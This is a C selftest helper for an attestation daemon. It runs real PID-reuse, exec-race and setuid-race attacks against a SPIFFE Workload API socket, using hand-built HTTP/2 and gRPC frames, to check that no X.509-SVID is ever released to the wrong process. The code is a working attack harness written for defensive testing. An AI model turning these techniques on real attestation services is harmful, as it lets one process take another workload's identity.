// SPDX-License-Identifier: Apache-2.0
/*
 * The PID-reuse attack on the Workload API, for real, many times over
 * (selftests/e2e/test_attacks.py runs it).  Each round:
 *
 *   1. A (attacker uid, no entry) connects to the socket and completes the
 *      HTTP/2 handshake, so attestd has accepted the connection while A is
 *      alive; then it leaves the connection behind -- passed to this
 *      process over SCM_RIGHTS ("pass"), or inherited by a child of A that
 *      lives on ("child") -- and exits.
 *   2. A's PID P is given to a new process B the way CRIU does it: write
 *      P-1 to /proc/sys/kernel/ns_last_pid, fork.  B switches to the victim
 *      uid (which has an entry) and execs this program as "victim": it
 *      fetches its own X.509-SVID until it gets one, so B is attested.
 *   3. The request goes over A's old connection.  Any X.509-SVID in the
 *      answer is an identity released to the wrong process.
 *
 * The gRPC client is a few HTTP/2 frames by hand (HPACK literals, no
 * Huffman), so each round takes a few milliseconds: one FetchX509SVID
 * stream, and "released" means a DATA frame carrying a non-empty message.
 *
 *   pidreuse attack SOCKET COUNT ATTACKER_UID VICTIM_UID [pass|child|both [JOBS]]
 *     prints one JSON line: attempts, reused (rounds B got P), released
 *     (must be 0), denied, victim_ok (rounds B was attested), elapsed_s;
 *     JOBS rounds run at once (each waits mostly for attestd)
 *   pidreuse victim SOCKET FD     (internal: B after exec)
 *   pidreuse execrace SOCKET COUNT UID MATCH_EXE NOMATCH_EXE BEFORE_ID AFTER_ID
 *   pidreuse setuid SOCKET COUNT TO_UID BEFORE_ID
 *     the exec race and setuid without exec (see those functions); JSON
 *     with "wrong": identities that did not belong to the state asked in
 *   pidreuse fetch SOCKET         FetchX509SVID as this process (retried for 3 s
 *     while refused, as a fresh process may not be attested yet): prints
 *     released|denied|error
 *
 * Static, -pthread only (selftests/helpers).  Must run as root in the
 * initial PID namespace: attestd reads SO_PEERCRED there.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <grp.h>
#include <sys/file.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum result { R_RELEASED = 1, R_DENIED = 2, R_ERROR = 3 };

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
static const char *self_exe = "/proc/self/exe";

static uint64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static int write_all(int fd, const void *buf, size_t len)
{
	const char *p = buf;

	while (len) {
		ssize_t n = write(fd, p, len);

		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return -1;
		p += n;
		len -= (size_t)n;
	}
	return 0;
}

/* Reads exactly len bytes before deadline (ms, CLOCK_MONOTONIC); -1 on EOF, error or timeout. */
static int read_full(int fd, void *buf, size_t len, uint64_t deadline)
{
	char *p = buf;

	while (len) {
		struct pollfd pfd = {.fd = fd, .events = POLLIN};
		uint64_t t = now_ms();
		ssize_t n;

		if (t >= deadline || poll(&pfd, 1, (int)(deadline - t)) <= 0)
			return -1;
		n = read(fd, p, len);
		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return -1;
		p += n;
		len -= (size_t)n;
	}
	return 0;
}

static int frame(int fd, uint8_t type, uint8_t flags, uint32_t stream, const void *payload,
		 size_t len)
{
	uint8_t h[9] = {(uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len, type, flags,
			(uint8_t)(stream >> 24 & 0x7f), (uint8_t)(stream >> 16), (uint8_t)(stream >> 8),
			(uint8_t)stream};

	if (write_all(fd, h, 9) < 0)
		return -1;
	return len ? write_all(fd, payload, len) : 0;
}

static int connect_to(const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	if (connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Preface and SETTINGS out, the server's SETTINGS in (so it has accepted us), ACKed. */
static int h2_handshake(int fd)
{
	uint64_t deadline = now_ms() + 5000;
	uint8_t h[9], buf[256];

	if (write_all(fd, preface, sizeof(preface) - 1) < 0 || frame(fd, 4, 0, 0, NULL, 0) < 0)
		return -1;
	for (;;) {
		uint32_t len;

		if (read_full(fd, h, 9, deadline) < 0)
			return -1;
		len = (uint32_t)h[0] << 16 | (uint32_t)h[1] << 8 | h[2];
		if (len > sizeof(buf) || (len && read_full(fd, buf, len, deadline) < 0))
			return -1;
		if (h[3] == 4 && !(h[4] & 1))
			return frame(fd, 4, 1, 0, NULL, 0);
	}
}

static size_t hpack_lit(uint8_t *p, const char *name, const char *value)
{
	size_t nl = strlen(name), vl = strlen(value), o = 0;

	p[o++] = 0x00; /* literal, not indexed, new name */
	p[o++] = (uint8_t)nl;
	memcpy(p + o, name, nl);
	o += nl;
	p[o++] = (uint8_t)vl;
	memcpy(p + o, value, vl);
	return o + vl;
}

static int varint(const uint8_t *p, size_t n, size_t *o, uint64_t *v)
{
	*v = 0;
	for (int sh = 0; *o < n && sh < 64; sh += 7) {
		uint8_t c = p[(*o)++];

		*v |= (uint64_t)(c & 0x7f) << sh;
		if (!(c & 0x80))
			return 0;
	}
	return -1;
}

/* The first field 1 (length-delimited) of a protobuf message: [*off, *off + *len). */
static int pb_field1(const uint8_t *p, size_t n, size_t *off, size_t *len)
{
	size_t o = 0;

	while (o < n) {
		uint64_t key, v;

		if (varint(p, n, &o, &key) < 0)
			return -1;
		if ((key & 7) == 2) {
			if (varint(p, n, &o, &v) < 0 || v > n - o)
				return -1;
			if (key >> 3 == 1) {
				*off = o;
				*len = (size_t)v;
				return 0;
			}
			o += (size_t)v;
		} else if ((key & 7) == 0) {
			if (varint(p, n, &o, &v) < 0)
				return -1;
		} else {
			return -1;
		}
	}
	return -1;
}

/* X509SVIDResponse.svids[0].spiffe_id of a gRPC message body, into id. */
static void first_spiffe_id(const uint8_t *msg, size_t n, char *id, size_t idlen)
{
	size_t o1, l1, o2, l2;

	if (!id)
		return;
	id[0] = '\0';
	if (pb_field1(msg, n, &o1, &l1) < 0 || pb_field1(msg + o1, l1, &o2, &l2) < 0)
		return;
	snprintf(id, idlen, "%.*s", (int)l2, (const char *)msg + o1 + o2);
}

/*
 * One FetchX509SVID on stream id, on a connection past its handshake.
 * R_RELEASED with the first SVID's SPIFFE ID in spiffe (if not NULL) when
 * a message came; the stream is left open (it is a server stream).
 */
static enum result h2_fetch_id(int fd, uint32_t id, char *spiffe, size_t spiffe_len)
{
	static const uint8_t empty_msg[5] = {0, 0, 0, 0, 0};
	uint64_t deadline = now_ms() + 5000;
	uint8_t hb[512], h[9];
	static uint8_t buf[1 << 16], msg[1 << 17];
	size_t o = 0, data = 0;

	if (spiffe)
		spiffe[0] = '\0';
	o += hpack_lit(hb + o, ":method", "POST");
	o += hpack_lit(hb + o, ":scheme", "http");
	o += hpack_lit(hb + o, ":path", "/SpiffeWorkloadAPI/FetchX509SVID");
	o += hpack_lit(hb + o, ":authority", "localhost");
	o += hpack_lit(hb + o, "content-type", "application/grpc");
	o += hpack_lit(hb + o, "te", "trailers");
	o += hpack_lit(hb + o, "workload.spiffe.io", "true");
	if (frame(fd, 1, 0x4 /* END_HEADERS */, id, hb, o) < 0 ||
	    frame(fd, 0, 0x1 /* END_STREAM */, id, empty_msg, sizeof(empty_msg)) < 0)
		return R_ERROR;
	for (;;) {
		uint32_t len, sid;

		if (read_full(fd, h, 9, deadline) < 0)
			return data > 5 ? R_RELEASED : R_ERROR;
		len = (uint32_t)h[0] << 16 | (uint32_t)h[1] << 8 | h[2];
		sid = ((uint32_t)h[5] & 0x7f) << 24 | (uint32_t)h[6] << 16 | (uint32_t)h[7] << 8 | h[8];
		if (len > sizeof(buf) || (len && read_full(fd, buf, len, deadline) < 0))
			return R_ERROR;
		if (h[3] == 6 && !(h[4] & 1)) /* PING: ack it */
			frame(fd, 6, 1, 0, buf, len);
		if (sid != id)
			continue;
		if (h[3] == 0) { /* DATA */
			size_t pad = (h[4] & 0x8) && len ? (size_t)buf[0] + 1 : 0;
			size_t n = len > pad ? len - pad : 0;

			if (data + n <= sizeof(msg))
				memcpy(msg + data, buf + (pad ? 1 : 0), n);
			data += n;
			if (data >= 5) {
				size_t mlen = (size_t)msg[1] << 24 | (size_t)msg[2] << 16 |
					      (size_t)msg[3] << 8 | msg[4];

				/* the first message whole: enough (the stream stays open) */
				if (mlen && (data >= 5 + mlen || 5 + mlen > sizeof(msg))) {
					if (5 + mlen <= sizeof(msg))
						first_spiffe_id(msg + 5, mlen, spiffe, spiffe_len);
					return R_RELEASED;
				}
			}
		}
		if (h[3] == 3) /* RST_STREAM */
			return R_ERROR;
		if ((h[3] == 0 || h[3] == 1) && (h[4] & 1)) /* END_STREAM */
			return data > 5 ? R_RELEASED : R_DENIED;
	}
}

static enum result h2_fetch(int fd, uint32_t id)
{
	return h2_fetch_id(fd, id, NULL, 0);
}

static enum result fetch_once(const char *sock)
{
	enum result r;
	int fd = connect_to(sock);

	if (fd < 0)
		return R_ERROR;
	r = h2_handshake(fd) < 0 ? R_ERROR : h2_fetch(fd, 1);
	close(fd);
	return r;
}

static int send_fd(int sock, int fd)
{
	char c = 'F';
	struct iovec iov = {.iov_base = &c, .iov_len = 1};
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
			   .msg_controllen = sizeof(u.buf)};
	struct cmsghdr *cm = CMSG_FIRSTHDR(&m);

	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	return sendmsg(sock, &m, 0) == 1 ? 0 : -1;
}

static int recv_fd(int sock)
{
	char c;
	struct iovec iov = {.iov_base = &c, .iov_len = 1};
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} u;
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
			   .msg_controllen = sizeof(u.buf)};
	struct cmsghdr *cm;
	int fd;

	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) != 1)
		return -1;
	cm = CMSG_FIRSTHDR(&m);
	if (!cm || cm->cmsg_type != SCM_RIGHTS)
		return -1;
	memcpy(&fd, CMSG_DATA(cm), sizeof(int));
	return fd;
}

static int drop_to(uid_t uid)
{
	return setgroups(0, NULL) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid) ? -1 : 0;
}

/* B after exec: attested as the victim uid?  'Y' or 'N' on fd, then waits to be killed. */
__attribute__((noreturn)) static void victim(const char *sock, int fd)
{
	uint64_t end = now_ms() + 3000;
	char c = 'N';

	while (now_ms() < end) {
		if (fetch_once(sock) == R_RELEASED) {
			c = 'Y';
			break;
		}
		usleep(2000);
	}
	(void)!write(fd, &c, 1);
	close(fd);
	for (;;)
		pause();
}

/* The next fork gets pid: ns_last_pid = pid - 1 (CRIU's way), under its flock. */
static pid_t fork_as(pid_t pid, int lastpid_fd)
{
	char buf[32];
	int n = snprintf(buf, sizeof(buf), "%d", (int)pid - 1);
	pid_t r;

	flock(lastpid_fd, LOCK_EX);
	if (pwrite(lastpid_fd, buf, (size_t)n, 0) != n) {
		flock(lastpid_fd, LOCK_UN);
		return -2;
	}
	r = fork();
	if (r != 0)
		flock(lastpid_fd, LOCK_UN);
	return r;
}

struct tally {
	unsigned attempts, reused, released, denied, errors, victim_ok;
	uint64_t ms_connect, ms_victim, ms_ask; /* where the time goes */
};

/* One round; mode 0 pass, 1 child. */
static void round_once(const char *sock, uid_t attacker, uid_t victim_uid, int mode, int lastpid_fd,
		       struct tally *t)
{
	int sp[2], vp[2], conn = -1;
	pid_t a, b;
	char c;
	enum result r;

	uint64_t t0 = now_ms(), t1, t2;

	t->attempts++;
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sp) < 0) {
		t->errors++;
		return;
	}
	a = fork();
	if (a == 0) {
		int fd;

		close(sp[0]);
		if (drop_to(attacker) < 0)
			_exit(10);
		fd = connect_to(sock);
		if (fd < 0 || h2_handshake(fd) < 0)
			_exit(11);
		if (mode == 0)
			_exit(send_fd(sp[1], fd) < 0 ? 12 : 0);
		/* child mode: H keeps the connection; A exits at once */
		if (fork() == 0) {
			char go;

			if (read(sp[1], &go, 1) != 1)
				_exit(0);
			go = (char)h2_fetch(fd, 1);
			(void)!write(sp[1], &go, 1);
			_exit(0);
		}
		_exit(0);
	}
	close(sp[1]);
	if (a < 0) {
		close(sp[0]);
		t->errors++;
		return;
	}
	if (mode == 0)
		conn = recv_fd(sp[0]);
	int st = 0;
	waitpid(a, &st, 0); /* A is gone and reaped: P is free */
	if (!WIFEXITED(st) || WEXITSTATUS(st) != 0 || (mode == 0 && conn < 0)) {
		t->errors++;
		goto out;
	}
	if (pipe(vp) < 0) {
		t->errors++;
		goto out;
	}
	t1 = now_ms();
	t->ms_connect += t1 - t0;
	b = fork_as(a, lastpid_fd);
	if (b == 0) {
		char fdarg[16];

		close(vp[0]);
		if (drop_to(victim_uid) < 0)
			_exit(20);
		snprintf(fdarg, sizeof(fdarg), "%d", vp[1]);
		execl(self_exe, "pidreuse", "victim", sock, fdarg, (char *)NULL);
		_exit(21);
	}
	close(vp[1]);
	if (b < 0) {
		close(vp[0]);
		t->errors++;
		goto out;
	}
	if (b == a)
		t->reused++;
	c = 'N';
	if (read(vp[0], &c, 1) == 1 && c == 'Y')
		t->victim_ok++;
	close(vp[0]);
	t2 = now_ms();
	t->ms_victim += t2 - t1;
	/* B holds P and has an identity: now the old connection asks. */
	if (mode == 0) {
		r = h2_fetch(conn, 1);
	} else {
		char go = 'G', res = 0;

		if (write(sp[0], &go, 1) != 1 || read(sp[0], &res, 1) != 1)
			res = R_ERROR;
		r = (enum result)res;
	}
	t->ms_ask += now_ms() - t2;
	if (r == R_RELEASED) {
		t->released++;
		fprintf(stderr, "# RELEASED: round %u pid %d reused=%d victim=%c mode=%s\n",
			t->attempts, (int)a, b == a, c, mode ? "child" : "pass");
	} else if (r == R_DENIED) {
		t->denied++;
	} else {
		t->errors++;
	}
	kill(b, SIGKILL);
	waitpid(b, NULL, 0);
out:
	if (conn >= 0)
		close(conn);
	close(sp[0]);
	/* child mode: H exits after answering; reaped by init or our subreaper */
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
}

/* Asks on conn (stream ids from *sid) until an SVID comes or ms pass; its id in spiffe. */
static enum result ask_until(int conn, uint32_t *sid, char *spiffe, size_t len, unsigned ms)
{
	uint64_t end = now_ms() + ms;
	enum result r;

	do {
		r = h2_fetch_id(conn, *sid, spiffe, len);
		*sid += 2;
		if (r == R_RELEASED || r == R_ERROR)
			return r;
		usleep(2000);
	} while (now_ms() < end);
	return r;
}

/*
 * Exec race: P (uid) connects, leaves the connection with us, is seen to
 * hold identity before; then execs target (even rounds: match, which an
 * entry grants after; odd rounds: nomatch, which nothing grants).  The
 * moment /proc/P/exe shows the new binary we ask on P's connection: the
 * answer must never be before's identity, nor any identity for nomatch.
 */
static int execrace(const char *sock, unsigned count, uid_t uid, const char *match,
		    const char *nomatch, const char *before, const char *after)
{
	unsigned before_ok = 0, after_ok = 0, nomatch_refused = 0, refused_first = 0, wrong = 0,
		 errors = 0;
	char self[512];
	ssize_t sl = readlink("/proc/self/exe", self, sizeof(self) - 1);
	uint64_t t0 = now_ms();

	if (sl <= 0)
		return 1;
	self[sl] = '\0';
	for (unsigned i = 0; i < count; i++) {
		const char *target = i & 1 ? nomatch : match;
		char id[512], path[64], exe[512];
		uint32_t sid = 1;
		int sp[2], conn;
		enum result r;
		pid_t p;

		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sp) < 0)
			return 1;
		p = fork();
		if (p == 0) {
			char fdarg[16];

			close(sp[0]);
			/* exec'd as uid, so the kernel records P's binary and credentials */
			if (drop_to(uid) < 0 || fcntl(sp[1], F_SETFD, 0) < 0)
				_exit(10);
			snprintf(fdarg, sizeof(fdarg), "%d", sp[1]);
			execl(self, "pidreuse", "hold", sock, fdarg, target, (char *)NULL);
			_exit(12);
		}
		close(sp[1]);
		conn = recv_fd(sp[0]);
		if (conn < 0) {
			errors++;
			goto next;
		}
		r = ask_until(conn, &sid, id, sizeof(id), 3000);
		if (r == R_RELEASED && strcmp(id, before) == 0)
			before_ok++;
		if (write(sp[0], "G", 1) != 1) {
			errors++;
			goto next;
		}
		snprintf(path, sizeof(path), "/proc/%d/exe", (int)p);
		for (uint64_t end = now_ms() + 2000; now_ms() < end;) {
			ssize_t n = readlink(path, exe, sizeof(exe) - 1);

			if (n > 0 && (exe[n] = '\0', strcmp(exe, self) != 0))
				break;
		}
		/* the binary now is target: ask at once */
		r = h2_fetch_id(conn, sid, id, sizeof(id));
		sid += 2;
		if (r == R_RELEASED && (strcmp(id, before) == 0 || target == nomatch)) {
			wrong++;
			fprintf(stderr, "# WRONG: round %u after exec of %s got %s\n", i, target, id);
		} else if (r != R_RELEASED) {
			refused_first++;
		}
		if (target == match) {
			if (r != R_RELEASED)
				r = ask_until(conn, &sid, id, sizeof(id), 2000);
			if (r == R_RELEASED && strcmp(id, after) == 0)
				after_ok++;
			else if (r == R_RELEASED && strcmp(id, before) == 0)
				wrong++;
		} else {
			if (r != R_RELEASED)
				nomatch_refused++;
		}
next:
		if (conn >= 0)
			close(conn);
		close(sp[0]);
		kill(p, SIGKILL);
		waitpid(p, NULL, 0);
	}
	printf("{\"rounds\":%u,\"before_ok\":%u,\"after_match_ok\":%u,"
	       "\"after_nomatch_refused\":%u,\"refused_right_after_exec\":%u,\"wrong\":%u,"
	       "\"errors\":%u,\"elapsed_s\":%.1f}\n",
	       count, before_ok, after_ok, nomatch_refused, refused_first, wrong, errors,
	       (double)(now_ms() - t0) / 1000.0);
	return 0;
}

/* P of the exec race after its exec: connect, hand the connection over, exec target on 'G'. */
static int hold(const char *sock, int sp, const char *target)
{
	char go;
	int fd = connect_to(sock);

	if (fd < 0 || h2_handshake(fd) < 0 || send_fd(sp, fd) < 0)
		return 11;
	close(fd);
	if (read(sp, &go, 1) != 1)
		return 0;
	execl(target, target, "30", (char *)NULL);
	return 12;
}

/*
 * setuid without exec: P (root, an entry for uid 0 and this binary) connects,
 * leaves the connection with us, is seen to have before's identity, then
 * calls setresuid(to) -- no hook fires.  Asked on its old connection, and
 * on a new one it makes itself, it must never get before's identity.
 */
static int setuid_race(const char *sock, unsigned count, uid_t to, const char *before)
{
	unsigned before_ok = 0, old_conn_refused = 0, new_conn_refused = 0, wrong = 0, errors = 0;
	uint64_t t0 = now_ms();

	for (unsigned i = 0; i < count; i++) {
		char id[512], res[520];
		uint32_t sid = 1;
		int sp[2], conn;
		enum result r;
		pid_t p;

		if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sp) < 0)
			return 1;
		p = fork();
		if (p == 0) {
			char go, mine[512];
			int fd;

			close(sp[0]);
			fd = connect_to(sock);
			if (fd < 0 || h2_handshake(fd) < 0 || send_fd(sp[1], fd) < 0)
				_exit(11);
			close(fd);
			if (read(sp[1], &go, 1) != 1)
				_exit(0);
			/* i odd: a supplementary-groups change only */
			if (i & 1) {
				gid_t g = to;

				if (setgroups(1, &g) < 0)
					_exit(13);
			} else if (setresgid(to, to, to) < 0 || setresuid(to, to, to) < 0) {
				_exit(13);
			}
			(void)!write(sp[1], "D", 1);
			/* and a fresh connection of its own */
			fd = connect_to(sock);
			go = fd >= 0 && h2_handshake(fd) == 0 ? (char)h2_fetch_id(fd, 1, mine,
										   sizeof(mine))
							       : (char)R_ERROR;
			if (go != R_RELEASED)
				mine[0] = '\0';
			snprintf(res, sizeof(res), "%c%s", '0' + go, mine);
			(void)!write(sp[1], res, strlen(res));
			pause();
			_exit(0);
		}
		close(sp[1]);
		conn = recv_fd(sp[0]);
		if (conn < 0) {
			errors++;
			goto next;
		}
		r = ask_until(conn, &sid, id, sizeof(id), 3000);
		if (r == R_RELEASED && strcmp(id, before) == 0)
			before_ok++;
		if (write(sp[0], "G", 1) != 1 || read(sp[0], res, 1) != 1 || res[0] != 'D') {
			errors++;
			goto next;
		}
		r = h2_fetch_id(conn, sid, id, sizeof(id));
		if (r == R_RELEASED && strcmp(id, before) == 0) {
			wrong++;
			fprintf(stderr, "# WRONG: round %u old connection after setuid got %s\n", i, id);
		} else if (r != R_RELEASED) {
			old_conn_refused++;
		}
		{
			ssize_t n = read(sp[0], res, sizeof(res) - 1);

			res[n > 0 ? n : 0] = '\0';
			if (n > 0 && res[0] - '0' == R_RELEASED && strcmp(res + 1, before) == 0) {
				wrong++;
				fprintf(stderr, "# WRONG: round %u new connection after setuid got %s\n",
					i, res + 1);
			} else if (n > 0 && res[0] - '0' != R_RELEASED) {
				new_conn_refused++;
			}
		}
next:
		if (conn >= 0)
			close(conn);
		close(sp[0]);
		kill(p, SIGKILL);
		waitpid(p, NULL, 0);
	}
	printf("{\"rounds\":%u,\"before_ok\":%u,\"old_conn_refused\":%u,"
	       "\"new_conn_refused\":%u,\"wrong\":%u,\"errors\":%u,\"elapsed_s\":%.1f}\n",
	       count, before_ok, old_conn_refused, new_conn_refused, wrong, errors,
	       (double)(now_ms() - t0) / 1000.0);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "victim") == 0)
		victim(argv[2], atoi(argv[3]));
	if (argc == 3 && strcmp(argv[1], "fetch") == 0) {
		/* a fresh process may not be attested yet: retry for 3 s */
		uint64_t end = now_ms() + 3000;
		enum result r;

		while ((r = fetch_once(argv[2])) != R_RELEASED && now_ms() < end)
			usleep(5000);

		puts(r == R_RELEASED ? "released" : r == R_DENIED ? "denied" : "error");
		return 0;
	}
	if (argc == 5 && strcmp(argv[1], "hold") == 0)
		return hold(argv[2], atoi(argv[3]), argv[4]);
	if (argc == 9 && strcmp(argv[1], "execrace") == 0)
		return execrace(argv[2], (unsigned)atoi(argv[3]), (uid_t)atoi(argv[4]), argv[5],
				argv[6], argv[7], argv[8]);
	if (argc == 6 && strcmp(argv[1], "setuid") == 0)
		return setuid_race(argv[2], (unsigned)atoi(argv[3]), (uid_t)atoi(argv[4]), argv[5]);
	if (argc >= 6 && strcmp(argv[1], "attack") == 0) {
		const char *sock = argv[2], *mode = argc > 6 ? argv[6] : "both";
		unsigned jobs = argc > 7 ? (unsigned)strtoul(argv[7], NULL, 10) : 1;
		int pipes[64];
		unsigned count = (unsigned)strtoul(argv[3], NULL, 10);
		uid_t attacker = (uid_t)strtoul(argv[4], NULL, 10);
		uid_t vic = (uid_t)strtoul(argv[5], NULL, 10);
		struct tally t = {0};
		uint64_t t0 = now_ms();
		int lastpid_fd = open("/proc/sys/kernel/ns_last_pid", O_RDWR | O_CLOEXEC);

		if (jobs < 1 || jobs > 64)
			jobs = 1;
		if (lastpid_fd < 0) {
			fprintf(stderr, "pidreuse: /proc/sys/kernel/ns_last_pid: %s\n",
				strerror(errno));
			return 1;
		}
		/* jobs in parallel: each round mostly waits for attestd to see B's exec */
		for (unsigned j = 0; j < jobs; j++) {
			int p[2];

			if (pipe(p) < 0)
				return 1;
			if (fork() == 0) {
				struct tally mine = {0};
				unsigned n = count / jobs + (j < count % jobs);

				close(p[0]);
				/* Orphaned holders (child mode) come back to us, not to init. */
				prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
				for (unsigned i = 0; i < n; i++) {
					int m = strcmp(mode, "pass") == 0    ? 0
						: strcmp(mode, "child") == 0 ? 1
									     : (int)(i & 1);

					round_once(sock, attacker, vic, m, lastpid_fd, &mine);
				}
				(void)!write(p[1], &mine, sizeof(mine));
				_exit(0);
			}
			close(p[1]);
			pipes[j] = p[0];
		}
		for (unsigned j = 0; j < jobs; j++) {
			struct tally m = {0};

			if (read(pipes[j], &m, sizeof(m)) != sizeof(m))
				t.errors++;
			close(pipes[j]);
			t.attempts += m.attempts;
			t.reused += m.reused;
			t.released += m.released;
			t.denied += m.denied;
			t.errors += m.errors;
			t.victim_ok += m.victim_ok;
			t.ms_connect += m.ms_connect;
			t.ms_victim += m.ms_victim;
			t.ms_ask += m.ms_ask;
		}
		while (wait(NULL) > 0)
			;
		printf("{\"attempts\":%u,\"reused\":%u,\"released\":%u,\"denied\":%u,"
		       "\"errors\":%u,\"victim_ok\":%u,\"elapsed_s\":%.1f,"
		       "\"ms_connect\":%llu,\"ms_victim\":%llu,\"ms_ask\":%llu}\n",
		       t.attempts, t.reused, t.released, t.denied, t.errors, t.victim_ok,
		       (double)(now_ms() - t0) / 1000.0, (unsigned long long)t.ms_connect,
		       (unsigned long long)t.ms_victim, (unsigned long long)t.ms_ask);
		return 0;
	}
	fprintf(stderr, "usage: pidreuse attack SOCKET COUNT ATTACKER_UID VICTIM_UID "
			"[pass|child|both [JOBS]] | fetch SOCKET\n");
	return 2;
}
